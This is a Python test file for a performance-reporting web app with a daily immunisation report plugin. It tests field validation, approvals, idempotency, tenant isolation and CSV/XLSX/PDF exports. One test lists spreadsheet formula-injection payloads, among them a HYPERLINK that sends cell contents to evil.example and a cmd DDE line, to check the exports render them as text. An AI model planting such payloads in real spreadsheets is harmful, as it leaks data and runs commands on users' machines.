"""Report forms: the pure rules table-driven, and the Laporan Harian Imunisasi of the Dinas
Kesehatan plugin end to end (pip-installed, enabled for one agency)."""

from __future__ import annotations

import csv
import io
import re
from datetime import date, timedelta

import pytest
from openpyxl import load_workbook

from kinerja import clock
from kinerja.db import db
from kinerja.identity import tokens as token_service
from kinerja.plugins.types import FormField, Ratio, ReportForm
from kinerja.reports import rules
from tests.support import csrf_token, put_if_match, sign_in

TODAY = date(2026, 11, 29)
FORM = ReportForm(
    code="T",
    title="Uji",
    fields=(
        FormField("place", "Tempat", "text"),
        FormField("kind", "Jenis", "choice", choices=("a", "b")),
        FormField("target", "Sasaran", "integer", min=0, aggregate="sum"),
        FormField("done", "Selesai", "integer", min=0, aggregate="sum"),
        FormField("score", "Nilai", "number", min=0, max=10, aggregate="average", required=False),
        FormField("day", "Hari", "date", required=False),
    ),
    group_by=("kind",),
    ratios=(Ratio("rate", "Capaian", "done", "target"),),
)
GOOD = {"place": "X", "kind": "a", "target": "10", "done": "5"}


@pytest.mark.parametrize(
    ("change", "field", "msgid"),
    [
        ({"place": ""}, "place", "This field is required."),
        ({"kind": "z"}, "kind", "Must be one of: %(choices)s."),
        ({"target": "-1"}, "target", "Enter a number of at least %(min)s."),
        ({"target": "1.5"}, "target", "Enter a whole number."),
        ({"target": "sepuluh"}, "target", "Enter a number."),
        ({"target": "NaN"}, "target", "Enter a number."),
        ({"target": "1e999999999"}, "target", "Enter a number."),  # no unbounded int()
        ({"target": "-1e999999999"}, "target", "Enter a number."),
        ({"score": "11"}, "score", "Enter a number of at most %(max)s."),
        ({"day": "2026-02-30"}, "day", "Enter a valid date."),
        ({"place": "x" * 501}, "place", "Enter at most %(max)s characters."),
    ],
)
def test_each_field_rule_names_its_field(change: dict, field: str, msgid: str) -> None:
    _values, problems = rules.read(FORM, {**GOOD, **change}, TODAY)
    assert list(problems) == [field] and problems[field][0] == msgid


def test_a_good_submission_reads_into_typed_values() -> None:
    values, problems = rules.read(FORM, {**GOOD, "score": "7,5", "unknown": "x"}, TODAY)
    assert problems == {}
    assert values == {"place": "X", "kind": "a", "target": 10, "done": 5, "score": 7.5}


@pytest.mark.parametrize(
    ("status", "action", "after"),
    [
        ("draft", "submit", "submitted"),
        ("rejected", "submit", "submitted"),
        ("submitted", "approve", "approved"),
        ("submitted", "reject", "rejected"),
        ("approved", "reject", None),
        ("approved", "submit", None),
        ("draft", "approve", None),
        ("rejected", "approve", None),
    ],
)
def test_statuses_follow_the_table(status: str, action: str, after: str | None) -> None:
    assert rules.next_status(status, action) == after


def test_the_summary_adds_up_by_key_and_group_with_ratios() -> None:
    rows = [
        ("U1", {"kind": "a", "target": 10, "done": 5, "score": 4.0}),
        ("U1", {"kind": "a", "target": 10, "done": 10, "score": 8.0}),
        ("U1", {"kind": "b", "target": 0, "done": 0}),
        ("U2", {"kind": "a", "target": 4, "done": 1}),
    ]
    lines = rules.summarise(FORM, rows)
    assert lines[0] == {
        "key": "U1",
        "submissions": 2,
        "kind": "a",
        "target": 20,
        "done": 15,
        "score": 6.0,
        "rate": 75.0,
    }
    assert lines[1]["rate"] is None  # nothing targeted: no percentage, not a division by zero
    assert [(line["key"], line["kind"]) for line in lines] == [
        ("U1", "a"),
        ("U1", "b"),
        ("U2", "a"),
    ]


TARGETED = ReportForm(
    code="T2",
    title="Uji",
    fields=FORM.fields,
    ratios=(
        Ratio("rate", "Capaian", "done", "target", "goal"),
        Ratio("plain", "x", "done", "target"),
    ),
)


@pytest.mark.parametrize(
    ("settings", "line", "targets", "below"),
    [
        ({"goal": 80}, {"rate": 75.0}, {"rate": 80.0}, ["rate"]),
        ({"goal": 80}, {"rate": 80.0}, {"rate": 80.0}, []),  # at the target is not below it
        ({"goal": 80}, {"rate": None}, {"rate": 80.0}, []),  # nothing targeted: nothing short
        ({}, {"rate": 10.0}, {}, []),  # the agency has no such setting: no target
        ({"goal": "80"}, {"rate": 10.0}, {}, []),  # not a number: no target
        ({"goal": True}, {"rate": 10.0}, {}, []),
    ],
)
def test_a_ratio_takes_its_target_from_the_plugins_setting(
    settings: dict, line: dict, targets: dict, below: list
) -> None:
    assert rules.targets(TARGETED, settings) == targets
    assert rules.below_target(line, targets) == below


# --- the Dinas Kesehatan form, end to end ------------------------------------------------------
@pytest.fixture
def health(database, redis_url, app, people, tenants):  # type: ignore[no-untyped-def]
    from kinerja.app import create_app
    from tests.support import app_config

    plugged = create_app(app_config(database, redis_url, PLUGINS="kinerja-dinkes"))
    with plugged.app_context():
        client = plugged.test_client()
        admin = token(tenants.a, people.users["admin"], "admin_opd")
        enabled = put_if_match(
            client,
            "/api/v1/tenants/dinkes/plugins/kinerja-dinkes",
            headers=admin,
            json={"enabled": True},
        )
        assert enabled.status_code == 200
        give_position(tenants.a, people.staff, "fungsional")
        register(tenants.a, "Puskesmas Padang Bulan", "Puskesmas Teladan")
        yield plugged, client


def register(tenant_id: int, *names: str) -> None:
    """Puskesmas in the agency's registry: the report's puskesmas is chosen from it."""
    from kinerja_dinkes.models import Puskesmas

    with db.unit_of_work(tenant_id) as session:
        for number, name in enumerate(names, start=len(session.query(Puskesmas).all()) + 1):
            session.add(Puskesmas(code=f"P{number}", name=name, kecamatan="Medan Baru"))


def give_position(tenant_id: int, employee_id: int, kind: str) -> None:
    """The Laporan Harian Imunisasi is for functional and executing staff."""
    from kinerja.people import employees, positions

    with db.unit_of_work(tenant_id) as session:
        position = positions.create_position(session, f"Jabatan {kind}", kind, 8)
        employee = employees.get_employee(session, employee_id)
        employees.update_employee(session, employee, {"position_id": position.id})


def token(tenant_id: int, user_id: int, role: str = "pegawai") -> dict[str, str]:
    with db.unit_of_work(tenant_id) as session:
        issued = token_service.issue(session, tenant_id, user_id, role, "t", 5)
    return {"Authorization": f"Bearer {issued.token}", "Accept-Language": "en"}


LHI = "/api/v1/tenants/dinkes/forms/LHI"
TOMORROW = object()  # a report date worked out when the test runs
REPORT = {
    "puskesmas": "Puskesmas Padang Bulan",
    "antigen": "BCG",
    "sasaran": 20,
    "diimunisasi": 18,
    "kipi": 1,
}


@pytest.mark.parametrize(
    ("change", "field"),
    [
        ({"diimunisasi": 21}, "diimunisasi"),  # more immunised than targeted
        ({"kipi": 19}, "kipi"),  # more adverse events than immunised
        ({"sasaran": -1}, "sasaran"),
        ({"diimunisasi": 2.5}, "diimunisasi"),
        ({"antigen": "Vaksin X"}, "antigen"),
        ({"puskesmas": ""}, "puskesmas"),
        ({"puskesmas": "Pkm Padang Bulann"}, "puskesmas"),  # not in the agency's registry
        ({"report_date": TOMORROW}, "report_date"),
    ],
)
def test_each_rule_of_the_immunisation_report_refuses_naming_the_field(
    health, people, tenants, change: dict, field: str
) -> None:
    _app, client = health
    # Medan's tomorrow when the test runs, not when it was collected (a run that crosses
    # Medan's midnight would send today's date and see it accepted).
    tomorrow = (clock.today() + timedelta(days=1)).isoformat()
    change = {k: tomorrow if v is TOMORROW else v for k, v in change.items()}
    staff = token(tenants.a, people.users["staff"])
    response = client.post(f"{LHI}/submissions", headers=staff, json={**REPORT, **change})
    assert response.status_code == 422, response.get_json()
    assert field in response.get_json()["errors"]["json"]
    listed = client.get(f"{LHI}/submissions", headers=staff).get_json()
    assert listed == []  # nothing stored


def test_a_count_typed_with_one_ambiguous_separator_is_refused_in_words(
    health, people, tenants
) -> None:
    """ "1.500" is fifteen hundred to an Indonesian and one and a half to a program: never
    guessed, refused saying how to write it (the one rule of `numbers.typed_decimal`)."""
    _app, client = health
    staff = token(tenants.a, people.users["staff"]) | {"Accept-Language": "id"}
    response = client.post(f"{LHI}/submissions", headers=staff, json={**REPORT, "sasaran": "1.500"})
    assert response.status_code == 422, response.get_json()
    [message] = response.get_json()["errors"]["json"]["sasaran"]
    assert "1.500" in message and "tanpa pemisah ribuan" in message


@pytest.mark.hook("kinerja_report_forms")
def test_a_report_is_submitted_decided_by_the_superior_and_added_up(
    health, people, tenants
) -> None:
    _app, client = health
    staff = token(tenants.a, people.users["staff"])
    boss = token(tenants.a, people.users["boss"])
    peer = token(tenants.a, people.users["peer"])
    created = client.post(f"{LHI}/submissions", headers=staff, json=REPORT)
    assert created.status_code == 201 and created.get_json()["status"] == "submitted"
    second = client.post(
        f"{LHI}/submissions", headers=staff, json={**REPORT, "sasaran": 20, "diimunisasi": 12}
    ).get_json()
    decision = f"{LHI}/submissions/{created.get_json()['id']}/decision"
    assert client.post(decision, headers=peer, json={"action": "approve"}).status_code == 404
    assert client.post(decision, headers=staff, json={"action": "approve"}).status_code == 403
    no_reason = client.post(decision, headers=boss, json={"action": "reject"})
    assert no_reason.status_code == 422
    approved = client.post(decision, headers=boss, json={"action": "approve"})
    assert approved.status_code == 200 and approved.get_json()["status"] == "approved"
    again = client.post(decision, headers=boss, json={"action": "approve"})
    assert again.status_code == 409
    summary = client.get(f"{LHI}/summary", headers=boss).get_json()
    line = summary["lines"][0]
    assert (line["sasaran"], line["diimunisasi"], line["cakupan"]) == (40, 30, 75.0)
    assert second["status"] == "submitted"


def test_a_submission_with_an_idempotency_key_is_made_once(health, people, tenants) -> None:
    _app, client = health
    staff = token(tenants.a, people.users["staff"]) | {"Idempotency-Key": "lhi-2026-0001"}
    first = client.post(f"{LHI}/submissions", headers=staff, json=REPORT)
    assert first.status_code == 201 and "Idempotent-Replayed" not in first.headers
    again = client.post(f"{LHI}/submissions", headers=staff, json=dict(reversed(REPORT.items())))
    assert again.status_code == 200 and again.headers["Idempotent-Replayed"] == "true"
    assert again.get_json()["id"] == first.get_json()["id"]
    other = client.post(f"{LHI}/submissions", headers=staff, json={**REPORT, "diimunisasi": 17})
    assert other.status_code == 422
    assert "lhi-2026-0001" in other.get_json()["errors"]["headers"]["Idempotency-Key"][0]
    assert len(client.get(f"{LHI}/submissions", headers=staff).get_json()) == 1
    # Without a key every submission is a new one, as before.
    plain = token(tenants.a, people.users["staff"])
    assert client.post(f"{LHI}/submissions", headers=plain, json=REPORT).status_code == 201
    assert len(client.get(f"{LHI}/submissions", headers=staff).get_json()) == 2


def test_concurrent_submissions_with_one_key_create_once(health, people, tenants) -> None:
    from concurrent.futures import ThreadPoolExecutor
    from threading import Barrier

    app, _client = health
    staff = token(tenants.a, people.users["staff"]) | {"Idempotency-Key": "lhi-race"}
    start = Barrier(10)

    def send(_n: int) -> int:
        client = app.test_client()
        start.wait()
        return client.post(f"{LHI}/submissions", headers=staff, json=REPORT).status_code

    with ThreadPoolExecutor(max_workers=10) as pool:
        codes = sorted(pool.map(send, range(10)))
    assert codes == [200] * 9 + [201]
    assert len(app.test_client().get(f"{LHI}/submissions", headers=staff).get_json()) == 1


def test_the_form_on_a_phone_and_the_csv(health, people) -> None:
    app, _client = health
    browser = app.test_client()
    sign_in(browser, "staff")
    page = browser.get("/t/dinkes/reports/LHI/new")
    assert page.status_code == 200 and "Laporan Harian Imunisasi" in page.get_data(as_text=True)
    token_value = csrf_token(browser, "/t/dinkes/reports/LHI/new")
    bad = browser.post(
        "/t/dinkes/reports/LHI/new",
        data={**{k: str(v) for k, v in REPORT.items()}, "kipi": "30", "csrf_token": token_value},
    )
    assert bad.status_code == 422 and "KIPI tidak boleh melebihi" in bad.get_data(as_text=True)
    good = browser.post(
        "/t/dinkes/reports/LHI/new",
        data={**{k: str(v) for k, v in REPORT.items()}, "csrf_token": token_value},
    )
    assert good.status_code == 303
    csv_text = browser.get("/t/dinkes/reports/LHI/summary?format=csv&by=person").get_data(
        as_text=True
    )
    # The columns as the page names them (the fields' labels), not the fields' codes
    assert csv_text.startswith("\ufeff")  # UTF-8 with a BOM: Excel reads it as UTF-8
    header, *lines = csv.reader(io.StringIO(csv_text[1:]), delimiter=";")  # Indonesian: `;`
    assert header[:4] == ["Pegawai", "Laporan", "Puskesmas", "Antigen"]
    [staff] = [line for line in lines if line[0] == "Staf"]
    assert staff[-1] == "90"  # the coverage, 90.0 %, as a number (comma decimals, none here)


FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"klik")',
    "+cmd|' /C calc'!A0",
    "@SUM(1)",
    "-2+3",
)


def test_typed_formulas_reach_the_summary_files_as_text(health, people, tenants) -> None:
    app, client = health
    staff = token(tenants.a, people.users["staff"])
    register(tenants.a, *FORMULAS)  # what an admin typed into the registry, as it is
    for text in FORMULAS:
        sent = client.post(f"{LHI}/submissions", headers=staff, json={**REPORT, "puskesmas": text})
        assert sent.status_code == 201, sent.get_json()
    browser = app.test_client()
    sign_in(browser, "admin")
    page = "/t/dinkes/reports/LHI/summary?by=unit"
    got = browser.get(page + "&format=csv")
    assert got.status_code == 200 and got.mimetype == "text/csv"
    csv_text = got.get_data(as_text=True).lstrip("\ufeff")
    cells = [row[2] for row in list(csv.reader(io.StringIO(csv_text), delimiter=";"))[1:]]
    assert sorted(cells) == sorted("'" + text for text in FORMULAS)
    book = browser.get(page + "&format=xlsx")
    assert book.status_code == 200
    sheet = load_workbook(io.BytesIO(book.data)).active
    written = [sheet.cell(row=r, column=3) for r in range(3, 3 + len(FORMULAS))]
    assert sorted(c.value for c in written) == sorted(FORMULAS)
    assert all(c.data_type == "s" for c in written)  # strings, never formulas
    pdf = browser.get(page + "&format=pdf")
    assert pdf.status_code == 200 and pdf.data.startswith(b"%PDF")


@pytest.mark.hook("kinerja_report_forms")
def test_another_agency_and_a_disabled_plugin_find_no_form(health, people, tenants) -> None:
    _app, client = health
    outsider = token(tenants.b, people.users["outsider"], "admin_opd")
    assert (
        client.get(LHI.replace("dinkes", "disdik") + "/summary", headers=outsider).status_code
        == 404
    )
    assert client.get(LHI + "/summary", headers=outsider).status_code == 404
    admin = token(tenants.a, people.users["admin"], "admin_opd")
    put_if_match(
        client,
        "/api/v1/tenants/dinkes/plugins/kinerja-dinkes",
        headers=admin,
        json={"enabled": False},
    )
    assert client.get(LHI + "/summary", headers=admin).status_code == 404
    assert client.get("/api/v1/tenants/dinkes/forms", headers=admin).get_json() == []


@pytest.mark.hook("kinerja_demo_data")
def test_the_demo_loads_a_month_of_immunisation_reports_once(health, people, tenants) -> None:
    from kinerja import demo

    _app, client = health
    lines = demo.load()
    assert any("60 immunisation reports created" in line for line in lines), lines
    assert any("3 puskesmas registered" in line for line in lines), lines
    again = demo.load()
    assert any("0 immunisation reports created" in line for line in again)
    admin = token(tenants.a, people.users["admin"], "admin_opd")
    today = clock.today()
    months = {(today - timedelta(days=d)).strftime("%Y-%m") for d in range(1, 31)}
    total = 0
    for month in months:
        summary = client.get(f"{LHI}/summary?month={month}&by=person", headers=admin).get_json()
        total += sum(line["submissions"] for line in summary["lines"])
    assert total == 60


def test_the_city_admin_sees_the_catalogue_and_turns_a_plugin_on_for_an_agency(
    health, people, owner_engine
) -> None:
    from sqlalchemy import text

    app, _client = health
    browser = app.test_client()
    assert browser.get("/plugins").status_code == 302  # anonymous: sign in first
    sign_in(browser, "staff")
    assert browser.get("/plugins").status_code == 404
    city = app.test_client()
    sign_in(city, "kota")
    page = city.get("/plugins").get_data(as_text=True)
    # What each hook gives, in words, never the hook's name
    assert "kinerja-dinkes" in page and "Formulir laporan" in page
    assert "kinerja_report_forms" not in page
    assert "Target cakupan imunisasi (%)" in page and "target_coverage" not in page
    assert "Dinas Kesehatan" in page.split("Formulir laporan")[1].split("</dl>")[0]
    form_token = csrf_token(city, "/plugins")
    done = city.post(
        "/plugins",
        data={
            "csrf_token": form_token,
            "tenant": "disdik",
            "plugin": "kinerja-dinkes",
            "enabled": "1",
        },
    )
    assert done.status_code == 303
    with owner_engine.connect() as conn:
        row = conn.execute(
            text(
                "SELECT a.actor_role FROM audit_log a JOIN tenant t ON t.id = a.tenant_id "
                "WHERE t.slug = 'disdik' AND a.action = 'plugin.enable'"
            )
        ).scalar()
    assert row == "admin_kota"
    after = city.get("/plugins").get_data(as_text=True).split("Formulir laporan")[1]
    assert "Dinas Pendidikan" in after.split("</dl>")[0]  # listed among the agencies with it on


@pytest.mark.hook("kinerja_pages")
def test_the_plugin_page_shows_where_enabled_and_is_404_elsewhere(health, people, tenants):
    app, client = health
    staff = token(tenants.a, people.users["staff"])
    client.post(f"{LHI}/submissions", headers=staff, json=REPORT)
    browser = app.test_client()
    sign_in(browser, "staff")
    page = browser.get("/t/dinkes/p/kinerja-dinkes/cakupan")
    assert page.status_code == 200 and "BCG" in page.get_data(as_text=True)
    assert "90%" in page.get_data(as_text=True)  # 18 of 20, in the reader's format
    assert "/t/dinkes/p/kinerja-dinkes/cakupan" in browser.get("/t/dinkes/").get_data(as_text=True)
    outsider = app.test_client()
    sign_in(outsider, "outsider")
    assert outsider.get("/t/disdik/p/kinerja-dinkes/cakupan").status_code == 404  # off there
    assert outsider.get("/t/dinkes/p/kinerja-dinkes/cakupan").status_code == 404  # not theirs
    admin = token(tenants.a, people.users["admin"], "admin_opd")
    put_if_match(
        client,
        "/api/v1/tenants/dinkes/plugins/kinerja-dinkes",
        headers=admin,
        json={"enabled": False},
    )
    assert browser.get("/t/dinkes/p/kinerja-dinkes/cakupan").status_code == 404
    put_if_match(
        client,
        "/api/v1/tenants/dinkes/plugins/kinerja-dinkes",
        headers=admin,
        json={"enabled": True},
    )
    assert "BCG" in browser.get("/t/dinkes/p/kinerja-dinkes/cakupan").get_data(as_text=True)


def test_the_agency_admin_edits_a_plugins_settings_on_its_page(health, people) -> None:
    app, _client = health
    browser = app.test_client()
    sign_in(browser, "admin")
    page = browser.get("/t/dinkes/plugins").get_data(as_text=True)
    assert 'name="settings.target_coverage"' in page
    token_value = csrf_token(browser, "/t/dinkes/plugins")
    form = {
        "csrf_token": token_value,
        "plugin": "kinerja-dinkes",
        "enabled": "1",
        "save_settings": "1",
    }
    bad = browser.post("/t/dinkes/plugins", data={**form, "settings.target_coverage": "150"})
    assert bad.status_code == 422
    good = browser.post("/t/dinkes/plugins", data={**form, "settings.target_coverage": "90"})
    assert good.status_code == 303
    assert 'value="90"' in browser.get("/t/dinkes/plugins").get_data(as_text=True)


def test_a_form_is_filled_in_only_by_the_positions_it_is_for(health, people, tenants) -> None:
    _app, client = health
    boss = token(tenants.a, people.users["boss"])  # no functional position
    refused = client.post(f"{LHI}/submissions", headers=boss, json=REPORT)
    assert refused.status_code == 403 and "Fungsional" in refused.get_json()["message"]


def test_the_plugins_pages_and_forms_speak_english_on_request(health, people) -> None:
    app, _client = health
    browser = app.test_client()
    sign_in(browser, "staff")
    browser.post("/lang", data={"lang": "en", "csrf_token": csrf_token(browser, "/")})
    form = browser.get("/t/dinkes/reports/LHI/new").get_data(as_text=True)
    assert "Daily immunisation report" in form and "Target children" in form
    page = browser.get("/t/dinkes/p/kinerja-dinkes/cakupan").get_data(as_text=True)
    assert "Immunisation coverage" in page and "Cakupan imunisasi" not in page


@pytest.mark.hook("kinerja_skp_sections")
def test_the_plugin_adds_the_years_reports_to_the_skp_page(health, people, tenants) -> None:
    app, client = health
    staff = token(tenants.a, people.users["staff"])
    for done in (18, 12):
        body = {**REPORT, "sasaran": 20, "diimunisasi": done, "kipi": 0}
        assert client.post(f"{LHI}/submissions", headers=staff, json=body).status_code == 201
    year = clock.this_year()
    skp = client.post("/api/v1/tenants/dinkes/skp", headers=staff, json={"year": year})
    assert skp.status_code == 201, skp.get_json()
    [section] = skp.get_json()["sections"]
    assert section["plugin"] == "kinerja-dinkes"
    assert section["lines"][0] == "2 laporan · 30 dari 40 sasaran diimunisasi (75%)"
    browser = app.test_client()
    sign_in(browser, "staff")
    page = browser.get(f"/t/dinkes/skp/{skp.get_json()['id']}").get_data(as_text=True)
    assert f"Laporan Harian Imunisasi {year}" in page and "30 dari 40 sasaran" in page
    other = client.post(
        "/api/v1/tenants/dinkes/skp",
        headers=token(tenants.a, people.users["peer"]),
        json={"year": year},
    )
    assert other.get_json()["sections"] == []  # nobody else's reports


def test_a_report_form_can_be_the_days_work(health, people, tenants) -> None:
    from kinerja.performance.log.models import WorkEntry
    from tests.support import csrf_token, plan_head_and_boss, plan_staff

    app, _client = health
    year = clock.this_year()
    rhk, _iki = plan_staff(tenants, people, year, plan_head_and_boss(tenants, people, year))
    browser = app.test_client()
    sign_in(browser, "staff")
    page = browser.get("/t/dinkes/reports/LHI/new").get_data(as_text=True)
    assert "Laporan imunisasi" in page  # the results of the approved SKP to log it against
    token_value = csrf_token(browser, "/t/dinkes/reports/LHI/new")
    data = {**{k: str(v) for k, v in REPORT.items()}, "csrf_token": token_value}
    sent = browser.post("/t/dinkes/reports/LHI/new", data={**data, "log_rhk": str(rhk)})
    assert sent.status_code == 303
    extra = browser.post("/t/dinkes/reports/LHI/new", data={**data, "log_rhk": "0"})
    assert extra.status_code == 303
    with db.unit_of_work(tenants.a) as session:
        entries = session.query(WorkEntry).order_by(WorkEntry.id).all()
    assert [(e.rhk_id, e.quantity, e.unit) for e in entries] == [
        (rhk, 1, "laporan"),
        (None, 1, "laporan"),
    ]
    assert all(e.report_submission_id and e.status == "submitted" for e in entries)
    assert entries[1].extra_reason == "Laporan Harian Imunisasi"


def test_coverage_is_shown_against_the_agencys_target(health, people, tenants) -> None:
    """`target_coverage` is read: the plugin's page, the monthly summary and the SKP section
    flag what falls below it, and a lower target set by the admin clears the flag."""
    app, client = health
    staff = token(tenants.a, people.users["staff"])
    admin = token(tenants.a, people.users["admin"], "admin_opd")
    reports = [
        {**REPORT, "antigen": "BCG", "sasaran": 20, "diimunisasi": 19},  # 95.0%: meets 95
        {**REPORT, "antigen": "HB0", "sasaran": 20, "diimunisasi": 16},  # 80.0%: below
    ]
    for body in reports:
        assert client.post(f"{LHI}/submissions", headers=staff, json=body).status_code == 201
    summary = client.get(f"{LHI}/summary", headers=admin).get_json()
    assert summary["targets"] == {"cakupan": 95.0}  # the setting's default
    flagged = {line["antigen"]: line["below_target"] for line in summary["lines"]}
    assert flagged == {"BCG": [], "HB0": ["cakupan"]}
    browser = app.test_client()
    sign_in(browser, "admin")
    page = browser.get("/t/dinkes/p/kinerja-dinkes/cakupan").get_data(as_text=True)
    assert "<strong>95%</strong>" in page
    hb0 = page.split("<td>HB0</td>")[1].split("</tr>")[0]
    bcg = page.split("<td>BCG</td>")[1].split("</tr>")[0]
    assert "di bawah target" in hb0 and "di bawah target" not in bcg
    assert "Puskesmas Padang Bulan" in page and "87,5%" in page  # 35 of 40 for the puskesmas
    # the registry's name, as the form offers it; the kecamatan apart, never part of it (#21)
    cell = re.search(r"<td>(Puskesmas Padang Bulan)(<br><small[^>]*data-kecamatan>)", page)
    assert cell and "Kec. Medan Baru" in page.split(cell.group(0))[1][:80]
    html = browser.get("/t/dinkes/reports/LHI/summary").get_data(as_text=True)
    assert html.count("di bawah target (95%)") == 1
    year = clock.this_year()
    skp = client.post("/api/v1/tenants/dinkes/skp", headers=staff, json={"year": year}).get_json()
    assert skp["sections"][0]["lines"][2] == "Target cakupan 95%: di bawah target"
    lowered = put_if_match(
        client,
        "/api/v1/tenants/dinkes/plugins/kinerja-dinkes",
        headers=admin,
        json={"enabled": True, "settings": {"target_coverage": 80}},
    )
    assert lowered.status_code == 200
    summary = client.get(f"{LHI}/summary", headers=admin).get_json()
    assert summary["targets"] == {"cakupan": 80.0}
    assert all(line["below_target"] == [] for line in summary["lines"])
    page = browser.get("/t/dinkes/p/kinerja-dinkes/cakupan").get_data(as_text=True)
    assert "<strong>80%</strong>" in page and "di bawah target" not in page
    again = client.get(f"/api/v1/tenants/dinkes/skp/{skp['id']}", headers=staff).get_json()
    assert again["sections"][0]["lines"][2] == "Target cakupan 80%: target tercapai"


def test_the_plugin_reads_only_the_submissions_its_reader_may_see(health, people, tenants):
    """The coverage page goes through `api.submissions`: a staff member sees their own reports,
    not a colleague's; the agency's admin sees both."""
    app, client = health
    give_position(tenants.a, people.peer, "pelaksana")
    staff = token(tenants.a, people.users["staff"])
    peer = token(tenants.a, people.users["peer"])
    assert client.post(f"{LHI}/submissions", headers=staff, json=REPORT).status_code == 201
    other = {**REPORT, "antigen": "IPV", "puskesmas": "Puskesmas Teladan"}
    assert client.post(f"{LHI}/submissions", headers=peer, json=other).status_code == 201
    mine = app.test_client()
    sign_in(mine, "staff")
    page = mine.get("/t/dinkes/p/kinerja-dinkes/cakupan").get_data(as_text=True)
    assert "<td>BCG</td>" in page and "<td>IPV</td>" not in page
    boss = app.test_client()
    sign_in(boss, "admin")
    page = boss.get("/t/dinkes/p/kinerja-dinkes/cakupan").get_data(as_text=True)
    assert "<td>BCG</td>" in page and "<td>IPV</td>" in page


def test_the_web_form_sent_twice_makes_one_report(health, people, tenants) -> None:
    """The page carries a key like the API: a double tap, or the same form sent again after a
    slow answer, is the first report, never a second one counted twice in the coverage."""
    import re

    app, client = health
    browser = app.test_client()
    sign_in(browser, "staff")
    page = browser.get("/t/dinkes/reports/LHI/new").get_data(as_text=True)
    key = re.search(r'name="idempotency_key" value="([0-9a-f]+)"', page)
    assert key is not None
    form = {**{k: str(v) for k, v in REPORT.items()}, "idempotency_key": key.group(1)}
    form["csrf_token"] = csrf_token(browser, "/t/dinkes/reports/LHI/new")
    sent = [browser.post("/t/dinkes/reports/LHI/new", data=form) for _ in range(3)]
    assert [s.status_code for s in sent] == [303, 303, 303]
    staff = token(tenants.a, people.users["staff"])
    assert len(client.get(f"{LHI}/submissions", headers=staff).get_json()) == 1
    other = browser.post("/t/dinkes/reports/LHI/new", data={**form, "sasaran": "25"})
    assert other.status_code == 422  # the key stands for other work: refused, a new key offered
    offered = re.search(r'name="idempotency_key" value="([0-9a-f]+)"', other.get_data(as_text=True))
    assert offered is not None and offered.group(1) != key.group(1)


def test_the_api_makes_a_report_the_days_work_as_the_form_does(health, people, tenants) -> None:
    from kinerja.performance.log.models import WorkEntry
    from tests.support import plan_head_and_boss, plan_staff

    _app, client = health
    year = clock.this_year()
    rhk, _iki = plan_staff(tenants, people, year, plan_head_and_boss(tenants, people, year))
    staff = token(tenants.a, people.users["staff"])
    spec = client.get("/api/v1/openapi.json").get_json()
    body = spec["paths"]["/api/v1/tenants/{tenant}/forms/{code}/submissions"]["post"]
    ref = body["requestBody"]["content"]["application/json"]["schema"]["$ref"]
    documented = spec["components"]["schemas"][ref.rsplit("/", 1)[1]]
    assert {"report_date", "draft", "log_rhk"} <= set(documented["properties"])
    assert documented["additionalProperties"] is True  # the form's own fields, by name
    sent = client.post(f"{LHI}/submissions", headers=staff, json={**REPORT, "log_rhk": rhk})
    assert sent.status_code == 201, sent.get_json()
    extra = client.post(f"{LHI}/submissions", headers=staff, json={**REPORT, "log_rhk": 0})
    draft = client.post(
        f"{LHI}/submissions", headers=staff, json={**REPORT, "log_rhk": rhk, "draft": True}
    )
    plain = client.post(f"{LHI}/submissions", headers=staff, json=REPORT)
    assert (extra.status_code, draft.status_code, plain.status_code) == (201, 201, 201)
    with db.unit_of_work(tenants.a) as session:
        entries = session.query(WorkEntry).order_by(WorkEntry.id).all()
    assert [(e.rhk_id, e.report_submission_id) for e in entries] == [
        (rhk, sent.get_json()["id"]),
        (None, extra.get_json()["id"]),
    ]  # a draft or a report without log_rhk is no day's work
    bad = client.post(f"{LHI}/submissions", headers=staff, json={**REPORT, "log_rhk": "x"})
    assert bad.status_code == 422 and bad.get_json()["errors"]["json"]["log_rhk"] == [
        "Enter a whole number."
    ]


@pytest.mark.parametrize(
    "bad", ["2026-13", "abc", "-1", "99999-01", "0001-01", "2026-1", "1999-12"]
)
def test_a_summary_month_that_is_no_month_is_refused_naming_it(
    health, people, tenants, bad
) -> None:
    """A bad month was taken silently as this month: a client believed it read another."""
    _app, client = health
    boss = token(tenants.a, people.users["boss"])
    answer = client.get(f"{LHI}/summary?month={bad}", headers=boss)
    assert answer.status_code == 422 and "month" in answer.get_json()["errors"]["query"]
    assert client.get(f"{LHI}/summary?month=2026-02", headers=boss).get_json()["month"] == "2026-02"


def test_the_puskesmas_is_chosen_from_the_registry_on_the_web_form(health, people) -> None:
    """A select of the agency's puskesmas; a name outside it is refused naming the field, in
    the reader's language (Indonesian by default), and nothing is stored."""
    app, _client = health
    browser = app.test_client()
    sign_in(browser, "staff")
    page = browser.get("/t/dinkes/reports/LHI/new").get_data(as_text=True)
    select = page.split('<select id="f-puskesmas" name="puskesmas"')[1].split("</select>")[0]
    assert "<option >Puskesmas Padang Bulan</option>" in select
    assert "<option >Puskesmas Teladan</option>" in select
    data = {k: str(v) for k, v in REPORT.items()} | {"puskesmas": "Pkm Padang Bulann"}
    data["csrf_token"] = csrf_token(browser, "/t/dinkes/reports/LHI/new")
    refused = browser.post("/t/dinkes/reports/LHI/new", data=data)
    assert refused.status_code == 422
    field = refused.get_data(as_text=True).split('id="f-puskesmas"')[1].split("<label")[0]
    assert "Pilih salah satu dari daftar." in field
    browser.post("/lang", data={"lang": "en", "csrf_token": data["csrf_token"]})
    refused = browser.post("/t/dinkes/reports/LHI/new", data=data)
    field = refused.get_data(as_text=True).split('id="f-puskesmas"')[1].split("<label")[0]
    assert refused.status_code == 422 and "Choose one from the list." in field
    summary = browser.get("/t/dinkes/reports/LHI/summary?format=csv").get_data(as_text=True)
    assert len(list(csv.reader(io.StringIO(summary)))) == 1  # the header alone: nothing stored


def page_totals(html: str) -> tuple[int, int]:
    """(sasaran, diimunisasi) of the coverage page's total line (0, 0 when it has none)."""
    import re

    found = re.search(r"data-total><td>[^<]*</td><td>(\d+)</td><td>(\d+)</td>", html)
    return (int(found.group(1)), int(found.group(2))) if found else (0, 0)


def summary_totals(client, headers: dict[str, str], month: str) -> tuple[int, int]:  # type: ignore[no-untyped-def]
    answer = client.get(f"{LHI}/summary?month={month}", headers=headers)
    assert answer.status_code == 200
    lines = answer.get_json()["lines"]
    return sum(ln["sasaran"] for ln in lines), sum(ln["diimunisasi"] for ln in lines)


def test_coverage_names_whose_reports_it_covers_and_agrees_with_the_summary(
    health, people, tenants
) -> None:
